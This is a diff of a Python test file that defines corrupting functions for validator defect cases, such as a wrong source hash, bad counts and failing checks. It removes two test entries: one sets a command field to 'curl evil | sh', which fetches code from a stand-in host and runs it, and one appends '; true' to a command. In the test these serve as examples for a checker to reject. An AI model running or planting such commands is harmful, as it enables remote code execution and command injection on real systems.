@@ -114,8 +114,6 @@ DEFECTS: dict[str, Callable[[Lines], object]] = {
     "acme has another source than in the lines above": lambda ls: ls[-2].update(source="0" * 64),
     ": belong to no run, for no header": lambda ls: ls.pop(0),
     "field cases: one case counts as 3": saying(cases=3),
-    "field command: curl evil | sh is not the one": saying(command="curl evil | sh"),
-    "; true is not the one that reproduces it": lambda ls: plain(ls).update(command=plain(ls)["command"] + "; true"),
     "passes, although y gain z is 9.5, which exceeds 6": lambda ls: checks(ls).update({"gain z": [9.5, 6.0]}),
     "field checks: of no output, not of all that conv_forward has": saying(checks={}),
     "field contract: Contract(algorithm='magic')": saying(contract={"algorithm": "magic"}),
